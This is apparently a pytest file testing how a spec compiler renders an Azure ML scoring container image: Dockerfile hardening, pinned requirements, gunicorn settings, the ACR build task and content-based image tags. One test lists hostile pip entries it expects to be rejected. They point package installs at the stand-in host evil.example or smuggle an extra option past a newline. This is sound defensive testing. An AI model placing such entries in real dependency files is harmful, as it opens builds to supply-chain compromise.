"""The serving image: Dockerfile, requirements, scoring script, ACR task and the image reference."""

from __future__ import annotations

import ast
import hashlib
import importlib.util
import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlspec.compiler.aks.image import UnsafeValue, python_literal, requirements_text


def _support() -> Any:
    if "aks_support" not in sys.modules:
        spec = importlib.util.spec_from_file_location(
            "aks_support", Path(__file__).with_name("test_aks_support.py")
        )
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules["aks_support"] = module
        spec.loader.exec_module(module)
    return sys.modules["aks_support"]


_s = _support()
BASE, HOSTILE, example_cases, render, variant = _s.BASE, _s.HOSTILE, _s.example_cases, _s.render, _s.variant
CASES = example_cases()
DOCKERFILE_INSTRUCTIONS = {
    "FROM",
    "ENV",
    "WORKDIR",
    "COPY",
    "RUN",
    "USER",
    "EXPOSE",
    "HEALTHCHECK",
    "ENTRYPOINT",
}


def _image(rendered: Any) -> str:
    image: str = rendered.doc("aks/deployment.yaml")["spec"]["template"]["spec"]["containers"][0]["image"]
    return image


def test_image_is_in_the_projects_registry_tagged_by_content() -> None:
    rendered = render(BASE)
    image = _image(rendered)
    match = re.fullmatch(r"acrscoringdev\.azurecr\.io/scoring/scorer:([0-9a-f]{12})", image)
    assert match, image
    digest = hashlib.sha256()
    for name in ("acr/Dockerfile", "acr/score.py", "acr/gunicorn.conf.py", "acr/requirements.txt"):
        content = rendered.out.artifacts[name].content
        digest.update(len(content).to_bytes(8, "big"))
        digest.update(content)
    assert match.group(1) == digest.hexdigest()[:12]


def test_one_image_serves_every_environment_and_a_changed_input_changes_the_tag(tmp_path: Path) -> None:
    dev, prod = render(BASE, "dev"), render(BASE, "prod")
    assert _image(dev).rsplit(":", 1)[1] == _image(prod).rsplit(":", 1)[1]
    assert _image(prod).startswith("acrscoringprod.azurecr.io/")
    changed = render(
        variant(tmp_path, lambda d: d["model"]["training"]["environment"]["pip"].append("numpy<3"))
    )
    assert _image(changed) != _image(dev)


def test_acr_task_builds_and_pushes_the_deployed_image_with_acr_syntax_kept_literal() -> None:
    rendered = render(BASE)
    text = rendered.text("acr/task.yaml")
    assert "{{.Run.ID}}" in text and "$Registry/scoring/scorer" in text
    task = rendered.doc("acr/task.yaml")
    tag = _image(rendered).rsplit(":", 1)[1]
    assert task["version"] == "v1.1.0"
    build, push = task["steps"]
    assert build["build"] == (
        f"-t $Registry/scoring/scorer:{{{{.Run.ID}}}} -t $Registry/scoring/scorer:{tag} -f Dockerfile ."
    )
    assert push["push"] == ["$Registry/scoring/scorer:{{.Run.ID}}", f"$Registry/scoring/scorer:{tag}"]
    # ACR renders its Go template before it parses the YAML: the result must still be the same YAML.
    expanded = text.replace("{{.Run.ID}}", "ca42").replace("$Registry", "acrscoringdev.azurecr.io")
    assert yaml.safe_load(expanded)["steps"][1]["push"][1] == _image(rendered)


def test_dockerfile_is_non_root_and_carries_no_spec_free_text() -> None:
    dockerfile = render(HOSTILE).text("acr/Dockerfile")
    instructions = [
        line.split()[0]
        for line in dockerfile.splitlines()
        if line.strip() and not line.startswith(("#", " "))
    ]
    assert set(instructions) <= DOCKERFILE_INSTRUCTIONS
    assert instructions[0] == "FROM"
    assert "FROM python:3.11-slim" in dockerfile
    assert "USER 10001:10001" in dockerfile
    for fragment in ("hostile", "os.system", "{{", "{%", "'''"):
        assert fragment not in dockerfile


def test_requirements_keep_the_model_pins_and_add_serving_packages() -> None:
    text = render(BASE).text("acr/requirements.txt")
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert "scikit-learn==1.5.2" in lines
    assert any(line.startswith("mlflow-skinny") for line in lines)
    assert any(line.startswith("azureml-mlflow") for line in lines)
    assert lines == sorted(lines, key=str.lower)
    assert "PyJWT" not in text
    assert "PyJWT[crypto]" in requirements_text([], "entra")
    for pin in ("azureml-inference-server-http==1.5.1", "gunicorn==27.0.1", "gevent==26.9.0"):
        assert pin in lines


def test_full_mlflow_is_served_as_skinny_and_the_servers_pins_win() -> None:
    """Full MLflow pins gunicorn<24, which the server's pin excludes: the image could not be built."""
    lines = requirements_text(["mlflow==2.16.2", "gunicorn==22.0.0", "pandas==2.2.3"], "key").splitlines()
    assert "mlflow-skinny==2.16.2" in lines and not any(line.startswith("mlflow==") for line in lines)
    assert "gunicorn==27.0.1" in lines and "gunicorn==22.0.0" not in lines
    assert "pandas==2.2.3" in lines


def test_the_image_runs_azure_mls_inference_server_with_the_hardened_settings() -> None:
    rendered = render(BASE)
    dockerfile = rendered.text("acr/Dockerfile")
    entrypoint = next(line for line in dockerfile.splitlines() if line.startswith("ENTRYPOINT"))
    assert json.loads(entrypoint.removeprefix("ENTRYPOINT ")) == [
        "python", "-m", "azureml_inference_server_http", "--entry_script", "/app/score.py", "--port", "8080"
    ]  # fmt: skip
    assert 'GUNICORN_CMD_ARGS="--config /app/gunicorn.conf.py"' in dockerfile
    assert "WORKER_COUNT=2" in dockerfile and "WORKER_TIMEOUT=120" in dockerfile
    assert "COPY gunicorn.conf.py score.py /app/" in dockerfile
    config = rendered.text("acr/gunicorn.conf.py")
    compile(config, "gunicorn.conf.py", "exec")
    settings = {
        node.targets[0].id: ast.literal_eval(node.value)
        for node in ast.parse(config).body
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name)
    }
    assert settings["worker_class"] == "gevent" and settings["keepalive"] == 5
    assert settings["graceful_timeout"] < 30 - 5, "finishes within the termination grace period after preStop"
    assert settings["limit_request_line"] <= 8190 and settings["limit_request_fields"] <= 100
    hooks = {node.name for node in ast.parse(config).body if isinstance(node, ast.FunctionDef)}
    assert hooks == {"on_starting", "pre_request", "post_request"}


@pytest.mark.parametrize(
    "entry",
    [
        "--index-url https://evil.example/simple",
        "pkg @ https://evil.example/pkg.whl",
        "numpy\n--trusted-host x",
        "-e .",
    ],
)
def test_pip_entries_that_are_not_plain_requirements_are_rejected_at_their_line(
    tmp_path: Path, entry: str
) -> None:
    with pytest.raises(UnsafeValue):
        requirements_text([entry], "key")
    spec = variant(tmp_path, lambda d: d["model"]["training"]["environment"]["pip"].append(entry))
    expected = [("MLS638", ("model", "training", "environment", "pip", 1))]
    assert [(d.code, d.path) for d in _s.spec_diagnostics(spec) if d.is_error] == expected  # validate
    rendered = render(spec, checked=False)  # and the renderer refuses it, as defence in depth
    assert [(d.code, d.path) for d in rendered.errors] == expected
    assert rendered.out.artifacts == {}


@pytest.mark.parametrize(
    "entry",
    ["scikit-learn==1.5.2", "pandas", "uvicorn[standard]>=0.30, <1", 'pywin32 ; sys_platform == "win32"'],
)
def test_plain_requirements_are_accepted(entry: str) -> None:
    assert entry in requirements_text([entry], "key")


@pytest.mark.parametrize(("spec", "env"), CASES, ids=[f"{s.parent.name}-{e}" for s, e in CASES])
def test_scoring_script_parses_for_every_example(spec: Path, env: str) -> None:
    source = render(spec, env).text("acr/score.py")
    compile(source, "score.py", "exec")


def _assigned(source: str, name: str) -> Any:
    for node in ast.parse(source).body:
        if isinstance(node, ast.Assign | ast.AnnAssign):
            target = node.targets[0] if isinstance(node, ast.Assign) else node.target
            if isinstance(target, ast.Name) and target.id == name:
                assert node.value is not None
                return ast.literal_eval(node.value)
    raise AssertionError(f"{name} is not assigned")


def test_hostile_spec_values_reach_the_script_only_as_literals() -> None:
    rendered = render(HOSTILE)
    source = rendered.text("acr/score.py")
    tree = ast.parse(source)
    calls = {
        node.func.attr
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "system"
    }
    assert not calls, "no hostile text became code"
    defaults = _assigned(source, "DEFAULTS")
    config = rendered.doc("aks/configmap.yaml")["data"]
    assert defaults == {k: config[k] for k in defaults}
    assert _assigned(source, "ENDPOINT") == "hostile-scoring"


def test_python_literal_refuses_what_is_not_plain_data() -> None:
    assert ast.literal_eval(python_literal({"b": [1, 2.5, None, True], "a": "x'\"\n"})) == {
        "a": "x'\"\n",
        "b": [1, 2.5, None, True],
    }
    for value in (float("nan"), object(), {1: "x"}, [b"bytes"]):
        with pytest.raises(UnsafeValue):
            python_literal(value)


def test_conda_packages_are_a_warning_and_the_image_is_still_built(tmp_path: Path) -> None:
    spec = variant(tmp_path, lambda d: d["model"]["training"]["environment"].update(conda=["libgomp"]))
    rendered = render(spec)
    assert rendered.diagnostics == [], "validate warns, not the renderer (build shows the warning once)"
    warnings = [(d.code, d.is_error, d.path) for d in _s.spec_diagnostics(spec) if d.code == "MLS638"]
    assert warnings == [("MLS638", False, ("model", "training", "environment", "conda"))]
    assert "acr/Dockerfile" in rendered.out.artifacts
